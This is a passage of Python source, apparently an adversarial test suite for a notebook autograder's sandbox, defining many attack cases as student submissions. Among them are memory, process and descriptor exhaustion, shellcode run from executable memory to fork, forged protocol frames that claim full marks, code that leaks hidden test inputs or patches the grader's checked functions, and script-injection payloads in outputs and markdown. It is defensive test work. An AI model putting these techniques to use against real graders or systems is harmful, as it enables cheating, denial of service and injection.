    "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
    "a traceback and the end, later": "import faulthandler\nfaulthandler.dump_traceback_later(0.01, repeat=True, exit=True)\n",
    "limits of nothing": "import resource\nfor r in range(16):\n    try: resource.setrlimit(r, (1, 1))\n"
    "    except (ValueError, OSError): pass\n",
    "pipes of 1 MB": "import os, fcntl\nk = []\ntry:\n    while True:\n        k.append(os.pipe()); fcntl.fcntl(k[-1][1], 1031, 1 << 20)\n"
    "        os.set_blocking(k[-1][1], False); os.write(k[-1][1], bytes(1 << 20))\nexcept OSError: pass\n",
    "sockets sent in sockets": "import socket, array\na, b = socket.socketpair(); a.setblocking(False)\ntry:\n    while True:\n"
    "        c, d = socket.socketpair(); a.sendmsg([b'x'], [(1, 1, array.array('i', [c.fileno(), d.fileno()]))]); c.close(); d.close()\n"
    "except OSError: pass\n",
    "locks on files that all read": "import fcntl, glob, numpy\nk = []\nfor f in glob.glob(numpy.__path__[0] + '/*.py'):\n"
    "    k.append(open(f))\n    for lock in (lambda: fcntl.flock(k[-1], fcntl.LOCK_EX), lambda: fcntl.fcntl(k[-1], 1024, 1)):\n"
    "        try: lock()\n        except OSError: pass\n",
    "folders in folders": "import os\nfor i in range(4000):\n    try: os.mkdir('d' * 200); os.chdir('d' * 200)\n    except OSError: break\n",
}.items():  # fmt: skip
    attack("resources", name, code, wild=True)
# NumPy would give each item the room of the longest; refused before that, on the host.
attack("resources", "a long text in a long list", answers=each("return ['x' * 2_000_000] + [''] * 400"), wild=True)
attack("resources", "a loop in every function", answers=each("while True: pass"), wild=True)
attack("resources", "a sleep just short of the limit", answers={
    name: "import time\ntime.sleep(3.5)\n" + CONSTANT.format(name=name, body="time.sleep(1.5)") for name in NAMES},
    wild=True)  # fmt: skip
attack("resources", "600 MB returned", answers=each("return np.zeros(75_000_000)"), wild=True)
attack("resources", "40 MB returned, each time", answers=each("return np.zeros(5_000_000)"), wild=True)
attack("resources", "a list of 10 million", answers=each("return [0] * 10**7"), wild=True)
# What the host would have to write out in full, to see whether all answers are the same.
attack("resources", "245 arrays of 1,000 numbers", answers=each("return tuple(np.random.rand(245, 1000))"), wild=True)
attack(
    "resources",
    "a function that is made of a million numbers",
    answers=each(
        "from course_lib.checking.plain import Named\n    return Named('quadratic', tuple(np.random.rand(1000, 1000)))"
    ),
    wild=True,
)
attack("resources", "99,999 lists in lists", answers=each("return [[[]] * 300] * 300"), wild=True)

# --- Network ----------------------------------------------------------------------------------------

for name, code in {
    "TCP": "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), 2); s.sendall(b'CANARY' * 10)\n",
    "UDP": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'CANARY', ('127.0.0.1', @PORT@))\n",
    "unix socket": "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('@SOCKET@'); s.sendall(b'CANARY')\n",
    "abstract unix socket": "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('\\0canary-@PORT@'); s.sendall(b'CANARY')\n",
    "HTTP": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/CANARY', timeout=2)\n",
    "names": "import socket\nsocket.getaddrinfo('example.com', 80)\n",
    "raw packets": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n",
    "netlink": "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(b'CANARY')\n",
}.items():  # fmt: skip
    attack("network", name, code)
SYSTEM_CALLS = "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7); m.write(bytes.fromhex('{}'))\n" \
    "print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))())\n"  # fmt: skip
for name, code in {
    "fork by 32 bit system calls": SYSTEM_CALLS.format("b802000000cd80c3"),
    "fork by x32 system calls": SYSTEM_CALLS.format("b8390000400f05c3"),
}.items():
    attack("persistence", name, code, wild=True)

# --- Forged frames on the way to the host -----------------------------------------------------------

PIPE = """
import os, json, stat, struct, sys
def out(body, length=None):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack('>I', len(body) if length is None else length) + body)
        except OSError: pass
def frame(**message): out(json.dumps(message).encode())
"""
for name, code in {
    "a right answer": PIPE + "for i in range(20): frame(kind='returned', value=1.0, changed=[], outputs=[])\n",
    "points": PIPE + "frame(score=12.0, max_score=12, verdict='right', outputs=[], completed=True)\n",
    "answers for all checks": PIPE + "for i in range(80): frame(kind='returned', value={'tuple': [9.0, 2.302585092994046]}, "
    "changed=[], outputs=[])\n",
    "a frame of 4 GB": PIPE + "out(b'x', 0xFFFFFFFF)\n",
    "a frame that never ends": PIPE + "out(b'{', 1000)\nimport time; time.sleep(600)\n",
    "a trickle": PIPE + "import time\nout(b'', 10000)\nwhile True:\n    time.sleep(0.1)\n    for fd in range(3, 50):\n"
    "        try: os.write(fd, b' ')\n        except OSError: pass\n",
    "a flood": PIPE + "while True: frame(kind='returned', value=[1] * 1000, outputs=[{}] * 1000)\n",
    "no JSON": PIPE + "out(b'\\xff\\xfe garbage')\n",
    "deep JSON": PIPE + "out(b'[' * 10**6)\n",
    "JSON of a million lists": PIPE + "out(b'{\"outputs\": [' + b'[],' * 10**6 + b'0]}')\n",
    "numbers as long as books": PIPE + "out(b'{\"kind\": \"returned\", \"value\": ' + b'9' * 10**6 + b'}')\n",
    "wrong kinds": PIPE + "frame(kind=['returned'], value={'dtype': 'object', 'shape': [-1], 'base64': 'AAAA'}, outputs={})\n",
    "types that are not outputs": PIPE + "frame(outputs=[None, 1, {'output_type': 'update_display_data'}, {'output_type': "
    "'execute_result', 'data': {'text/plain': '12.0', 'text/html': '<script>INJECTED</script>'}}], completed=1)\n",
    "end of the line": PIPE + "import socket\nfor fd in range(3, 50):\n    try: socket.socket(fileno=fd).shutdown(2)\n"
    "    except OSError: pass\n",
    "requests read away": PIPE + "for fd in range(3, 50):\n    try: os.set_blocking(fd, False); print(os.read(fd, 10**6))\n"
    "    except OSError: pass\n",
}.items():  # fmt: skip
    attack("frames", name, code)
attack("frames", "from inside a function", answers=each(
    "frame(kind='returned', value=0.0, changed=[]); frame(kind='returned', value=0.0, changed=[]); return 1.0", PIPE))  # fmt: skip
HALF_TEXT = '\'{"outputs": [{"output_type": "stream", "text": "\\\\ud800"}], "completed": true}\''
for name, code in {
    "half a character in UTF-16": f"out({HALF_TEXT}.encode('utf-16'))\n",
    "half a character in three bytes": f"out({HALF_TEXT}.replace('\\\\ud800', '\\ud800').encode('utf-8', 'surrogatepass'))\n",
    "every answer twice": "import autograder.worker as w\nold = w.write_frame\nw.write_frame = lambda s, m: (old(s, m), old(s, m))\n",
    "no answers": "import autograder.worker as w\nw.write_frame = lambda s, m: None\n",
    "answers in the wrong order": "import autograder.worker as w\nold, held = w.write_frame, []\ndef late(s, m):\n"
    "    held.append(m)\n    if len(held) > 3: [old(s, one) for one in reversed(held)]; held.clear()\nw.write_frame = late\n",
    "a socket without buffers": "import socket\nfor fd in range(3, 50):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
    "        for option in 7, 8: s.setsockopt(1, option, 1)\n    except OSError: pass\n",
    "signals for what comes in": "import fcntl\nfor fd in range(3, 50):\n    try:\n        fcntl.fcntl(fd, 8, os.getpid()); fcntl.fcntl(fd, 10, 9)\n"
    "        fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)\n    except OSError: pass\n",
    "thousands of descriptors": "import socket, array\nfor fd in range(3, 50):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
    "        for i in range(200): s.sendmsg([b' '], [(1, 1, array.array('i', [0] * 200))])\n    except OSError: pass\n",
}.items():  # fmt: skip
    attack("frames", name, PIPE + code)
for name, value in {
    "a number of no digits": {"int": ""},
    "an array of nothing, and of 10^21 rows": {"dtype": "float64", "shape": [0, 10**7, 10**7, 10**7], "base64": ""},
}.items():
    attack("frames", name, answers=each(f"frame(kind='returned', value={value}, changed=[-99]); return 0", PIPE))
attack("frames", "descriptors handed over", "import socket, array, os\nfor fd in range(3, 50):\n    try:\n"
       "        s = socket.socket(fileno=os.dup(fd)); s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, "
       "array.array('i', [0]))])\n    except OSError: pass\n")  # fmt: skip

# Right where the case is one of the notebook's, so that what is told comes from a hidden one.
SPY = (
    PIPE
    + """
import numpy as np
import course_lib.checking.exercise as e
PUBLIC = e.load('NAME').cases
def NAME(*a, **k):
    for case in PUBLIC:
        if len(a) == len(case.args) and all(map(np.array_equal, a, case.args)): return case.expected
    text = 'SECRET ' + repr(a)
    BODY
"""
)
for how, body in {
    "the reason why a function is missing": "frame(kind='missing', message=text); return 0",
    "the name of a function that was borrowed": "frame(kind='returned', value=0, borrowed=text); return 0",
    "the name of a file of the library": "import course_lib; exec(compile('1', course_lib.__path__[0] + '/' + "
    "text.replace('/', '') + '.py', 'exec')); return 0",
    "the number of a line": "exec(compile('\\n' * 31336 + 'raise ValueError', '<cell>', 'exec'))",
    "the number of a line in a frame": "frame(kind='raised', error='ValueError', line=31337); return 0",
    "a count of calls": "frame(kind='returned', value=0, calls=31337); return 0",
    "a shape": "return np.zeros(31337)",
    "a number of results": "return [0] * 31337",
    "an exception of that name": "raise type(text, (Exception,), {})",
    "two results": "return np.zeros(31337), np.zeros(31337)",
}.items():
    answers = {name: SPY.replace("NAME", name).replace("BODY", body) for name in NAMES}
    attack("frames", f"hidden inputs, as {how}", answers=answers)

# --- Damaged files ----------------------------------------------------------------------------------

for name, raw in {
    "empty": b"",
    "binary": bytes(range(256)) * 100,
    "UTF-16": '{"cells": []}'.encode("utf-16"),
    "byte order mark": b'\xef\xbb\xbf{"cells": []}',
    "200,000 brackets": b"[" * 200_000,
    "a list": b"[]",
    "cells are a number": b'{"cells": 3}',
    "no cells": b'{"cells": []}',
    "cells of every kind": b'{"cells": [null, 1, "x", [], {"cell_type": 3, "source": {}, "metadata": [], "id": {}}]}',
    "too many cells": b'{"cells": [' + b"{}," * 3000 + b"{}]}",
    "21 MB": b" " * 21_000_000,
    "a number of a million digits": b'{"cells": ' + b"9" * 1_000_000 + b"}",
    "not a number": b'{"cells": [{"cell_type": "code", "source": NaN, "metadata": {"nbgrader": Infinity}}]}',
    "lone surrogates": b'{"cells": [{"cell_type": "code", "source": "x = \\"\\ud800\\"", "metadata": {}, "id": "\\ud800"}]}',
    "cut off": b'{"cells": [{"cell_type": "code", "source": ["x',
}.items():
    attack("damaged", name, raw=raw)


def odd_ids(notebook):
    for number, cell in enumerate(notebook["cells"]):
        if not cell["id"].startswith("solve_"):
            cell["id"] = ["../../../x", '"><script>INJECTED</script>', "a" * 10_000, "\0"][number % 4]


def lone_surrogate(notebook):
    for cell in solutions(notebook):
        cell["source"] += "\nprint('\ud800')"


attack("damaged", "ids that are paths and tags", edit=odd_ids)
HALF = "raise type('\\ud800', (ValueError,), {})('\\ud800')"
attack("damaged", "lone surrogates in what a function says", answers=each("print('\\ud800'); " + HALF))
attack("damaged", "lone surrogates in a result", answers=each("return '\\ud800'"))
attack("damaged", "lone surrogates in outputs", "from IPython.display import display\nprint('\\ud800')\ndisplay({'text/plain': "
       "'\\udfff'}, raw=True)\n" + HALF)  # fmt: skip
attack("damaged", "lone surrogates in the code", edit=lone_surrogate)

# --- What a browser would run -----------------------------------------------------------------------

SCRIPT = "<script>INJECTED</script>"
for name, code in {
    "HTML": f"from IPython.display import HTML, display\ndisplay(HTML('{SCRIPT}'))\n",
    "SVG": f"from IPython.display import SVG, display\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">{SCRIPT}</svg>'))\n",
    "JavaScript": "from IPython.display import Javascript, display\ndisplay(Javascript('INJECTED'))\n",
    "raw bundle": "from IPython.display import display\ndisplay({'text/html': '" + SCRIPT + "', 'text/plain': 'x', "
    "'application/javascript': 'INJECTED', 'text/latex': '" + SCRIPT + "', 'image/png': '\"><script>INJECTED</script>'}, raw=True)\n",
    "printed": f"print('</pre>{SCRIPT}<img src=x onerror=INJECTED>')\n",
    "raised": f"raise type('<img src=x onerror=INJECTED>', (Exception,), {{}})('{SCRIPT}')\n",
    "repr": f"class R:\n    _repr_html_ = lambda s: '{SCRIPT}'\n    __repr__ = lambda s: '{SCRIPT}'\nR()\n",
    "terminal codes": f"print('\\x1b]8;;javascript:INJECTED\\x1b\\\\x\\x1b[31m{SCRIPT}')\n",
    "widget": "from IPython.display import display\ndisplay({'application/vnd.jupyter.widget-view+json': {'model_id': "
    "'<script>INJECTED</script>'}, 'text/plain': 'w'}, raw=True)\n",
}.items():  # fmt: skip
    attack("feedback", name, code)


def written(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "markdown":
            cell["source"] = (
                f"{SCRIPT}\n\n[x](javascript:INJECTED) <svg onload=INJECTED></svg> <iframe srcdoc='{SCRIPT}'></iframe>"
                f"\n\n![x](x){{onerror=INJECTED}}\n\n$$\\href{{javascript:INJECTED}}{{x}}$$"
            )


def own_cells(source, number):
    """An edit that adds cells of the student's own."""

    def edit(notebook):
        head = {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
        notebook["cells"][3:3] = [head | {"id": f"own{n}"} for n in range(number)]

    return edit


def all_texts(text):
    """An edit that puts the same into all texts, written answers among them."""
    return on_cells(lambda notebook: [c for c in notebook["cells"] if c["cell_type"] == "markdown"],
                    lambda cell: cell.update(source=text))  # fmt: skip


for name, edit in {
    "hundreds of cells that each end the process": own_cells("import os; os._exit(0)", 900),
    "hundreds of cells that send 16 MB": own_cells("B = b'{\"outputs\": [' + b'{},' * 5_000_000 + b'{}]}'\n" + PIPE + "out(B)", 50),
    "hundreds of cells of 20,000 letters to colour": own_cells("f'{" * 6000, 900),
    "hundreds of lines of 20,000 dots to colour": own_cells("." * 20_000, 900),
    "texts of 200,000 letters of tags": all_texts("<b><div>" * 25_000),
    "texts of formulas that never end": all_texts("\\begin{x}" * 22_000),
    "texts of quotations in quotations": all_texts(">" * 190_000),
    "texts of tables that never begin": all_texts("|-\n|" * 2500),
    "texts of empty lines": all_texts("\n" * 90_000 + "x"),
    "hundreds of cells of coloured text": own_cells("print('\\x1b[31mx' * 3000)", 400),
    "texts of pasted pictures": all_texts("![x](attachment:x)"),
    "texts of pictures from elsewhere": all_texts("![x](http://127.0.0.1/INJECTED) <img src=http://127.0.0.1/INJECTED> "
                                                  "<style>@import url(//x)</style><base href=//x><meta http-equiv=refresh>"),
}.items():  # fmt: skip
    attack("feedback" if "pictures" in name or "coloured" in name else "resources", name, edit=edit)
PICTURE = """
import struct, zlib
from IPython.display import display
def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
rows = chunk(b'IDAT', zlib.compress(bytes(20001 * 2501)))
png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 20000, 20000, 1, 0, 0, 0, 0)) + rows + chunk(b'IEND', b'')
for picture in (png, b'<svg onload=INJECTED>'): display({'image/png': picture, 'text/plain': 'x'}, raw=True)
"""
attack("feedback", "a picture of 400 megapixels, and one that is none", PICTURE)
attack("feedback", "written answer", edit=written)
attack("feedback", "function's message", answers=each(f"raise ValueError('{SCRIPT}')"))


# What counts is the longer of two times: here the time on all cores is used up first, and then that of waiting.
BURN = """
import ctypes, mmap, threading, time
m = mmap.mmap(-1, 4096, prot=7); m.write(bytes.fromhex('803f0074fbc3'))
flag = ctypes.create_string_buffer(8)
spin = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
def burn(seconds):
    flag[0], end = 0, time.process_time() + seconds
    ts = [threading.Thread(target=spin, args=(ctypes.addressof(flag),)) for i in range(40)]
    for t in ts: t.start()
    while time.process_time() < end: pass
    flag[0] = 1
    for t in ts: t.join()
burn(1.2)
"""


def one_after_the_other(*sources):
    """An edit that adds cells of these sources."""

    def edit(notebook):
        for source in reversed(sources):
            own_cells(source, 1)(notebook)

    return edit


edit = one_after_the_other(BURN, "burn(1.2)", *["time.sleep(0.3)"] * 10)
attack("resources", "threads that spin, then cells that sleep", edit=edit, wild=True)
attack("resources", "the end of the process, each time almost too late", edit=own_cells(
    "import os, time; time.sleep(1.4); os._exit(0)", 20), wild=True)  # fmt: skip
# A name that only a cell which shows something binds, so that all is run once more, and in hidden cases alone.
ONCE_MORE = """
import numpy as np
import course_lib.checking.exercise as e
PUBLIC = e.load('NAME').cases
def NAME(*a, **k):
    for case in PUBLIC:
        if len(a) == len(case.args) and all(map(np.array_equal, a, case.args)): return case.expected
    import time; time.sleep(0.2); return few
"""
attack("resources", "all over again, for a name that hidden cases miss", answers={
    name: ONCE_MORE.replace("NAME", name) for name in NAMES}, wild=True)  # fmt: skip
attack("damaged", "six million cells of nothing", raw=b'{"cells": [' + b"{}," * 6_600_000 + b"{}]}")


# --- Once no cell is left to run --------------------------------------------------------------------


def told_apart(body, head=""):
    """Every function right in the notebook's cases, so that it is the hidden ones in which something is tried."""
    return {name: head + SPY.replace("NAME", name).replace("BODY", body) for name in NAMES}


def last_cell(source):
    """An edit that adds a cell at the end."""

    def edit(notebook):
        own_cells(source, 1)(notebook)
        notebook["cells"].append(notebook["cells"].pop(3))

    return edit


ASKED = "import gc\nfor d in gc.get_objects():\n    if type(d) is dict and set(d) == set({}): d.{}\n"
for name, source in {
    "the functions that were checked, exchanged where the worker keeps them": ASKED.format(
        NAMES, "update(dict.fromkeys(d, lambda *a, **k: 0))"),
    "the functions that were checked, forgotten by the worker": ASKED.format(NAMES, "clear()"),
    "the functions that were checked, made into the library's": "from course_lib import losses\n"
    f"for n in {tuple(BORROWED)}:\n    globals()[n].__code__ = getattr(losses, n).__code__\n"
    "    globals().update(vars(losses))\n",
    "questions without cases": "import sys\nf = sys._getframe()\nwhile f.f_code.co_name != 'serve': f = f.f_back\n"
    "old = f.f_globals['read_frame']\n"
    "f.f_globals['read_frame'] = lambda s: (lambda m: m and {**m, 'calls': []})(old(s))\n",
}.items():  # fmt: skip
    attack("patched", name, answers=told_apart("return a[0]"), edit=last_cell(source))
attack("patched", "the library's work, by way of a helper that the last cell defines", answers={
    name: SPY.replace("NAME", name).replace("BODY", f"return later({name!r}, a, k)") for name in BORROWED},
    edit=last_cell("from course_lib import losses\ndef later(name, a, k): return getattr(losses, name)(*a, **k)\n"))  # fmt: skip
attack("patched", "other functions in the second process, known by the time that is left", answers=told_apart(
    "return a[0] if SECOND else 0", "import resource\nSECOND = resource.getrlimit(resource.RLIMIT_CPU)[0] < 9\n"))  # fmt: skip
attack("patched", "a guess, and another one in the second process", answers=told_apart(
    "return np.random.rand(*np.shape(a[0])[:1])", "import numpy as np\nnp.random.seed(None)\n"))  # fmt: skip
attack("frames", "answers to hidden cases before they are asked", answers=told_apart("return 0"), edit=last_cell(
    PIPE + "for i in range(200): frame(kind='returned', value=0.0, changed=[], outputs=[])\n"))  # fmt: skip
attack("frames", "hidden inputs, as a cell's outputs and an answer in one frame", answers=told_apart(
    "frame(outputs=[{'output_type': 'stream', 'text': text}], completed=True, kind='returned', value=31337, changed=[]); "
    "return 0"))  # fmt: skip
attack("reading", "hidden inputs, as a name that is looked for in vain", answers=told_apart(
    "raise NameError(f\"name '{''.join(filter(str.isalnum, text))}' is not defined\")"))  # fmt: skip
attack("reading", "hidden inputs, as a number that is answered", answers=told_apart(
    "return 31337.0, np.full(np.shape(a[0]), 31337.0)"))  # fmt: skip
attack("reading", "hidden inputs, shown by hooks and threads after all cells", answers=told_apart(
    "HELD.append(text); return 0", "HELD = []\n"), edit=last_cell(
    "import atexit, threading, time\nfrom IPython.display import display\natexit.register(lambda: print(HELD))\n"
    "get_ipython().events.register('post_run_cell', lambda r: print(HELD))\ndef late():\n"
    "    while True: time.sleep(0.01); print(HELD); display({'text/plain': str(HELD)}, raw=True)\n"
    "threading.Thread(target=late, daemon=True).start()\n"))  # fmt: skip
attack("reading", "hidden inputs, kept for the process in which everything is shown", answers=told_apart(
    "for p in ('kept', '/tmp/kept', '/dev/shm/kept', '/submission/kept'):\n        try: open(p, 'a').write(text)\n"
    "        except OSError: pass\n    np.SECRET = text; return few"), edit=own_cells(
    "import glob\nimport numpy as np\nprint(getattr(np, 'SECRET', 0))\n"
    "for p in glob.glob('kept') + glob.glob('/*/kept') + glob.glob('/*/*/kept'): print(open(p).read())\n", 1))  # fmt: skip
for name, body in {
    "hidden cases that are never answered": "while True: pass",
    "hidden cases that end the process, or miss a name": "import os; len(a) > 1 and os._exit(0); return few",
    "hidden cases that are answered by as many numbers as are looked at": "return np.random.rand(240_000)",
    "hidden cases that are answered by lists in lists": "return [[i, [i]] for i in range(3000)]",
    "hidden cases that take all memory": "return np.ones(220_000_000)[:3]",
}.items():
    attack("resources", name, answers=told_apart(body), wild=True)
attack("resources", "Python's lock, held once all cells have run", answers=told_apart("return 0"), edit=last_cell(
    "import ctypes, threading, time\ndef late(): time.sleep(0.05); ctypes.PyDLL(None).sleep(100)\n"
    "threading.Thread(target=late).start()\n"), wild=True)  # fmt: skip


def text_of(one, released, places):
    """The file of an attacker's notebook, as bytes."""
    if one.raw is not None:
        return one.raw
    notebook = json.loads(json.dumps(released))
    for cell in notebook["cells"]:
        name = cell["id"].removeprefix("solve_")
        if cell["id"] == "solve_svm_losses" and one.everywhere:
            cell["source"] = _placed(one.everywhere, places) + "\n" + "".join(cell["source"])
        elif cell["id"].startswith("solve_") and name in one.answers:
            cell["source"] = _placed(one.answers[name], places)
    if one.edit is not None:
        one.edit(notebook)
    return json.dumps(notebook).encode()


def _placed(text, places):
    for name in PLACES:
        text = text.replace(f"@{name}@", str(places.get(name, "/nowhere")))
    return text
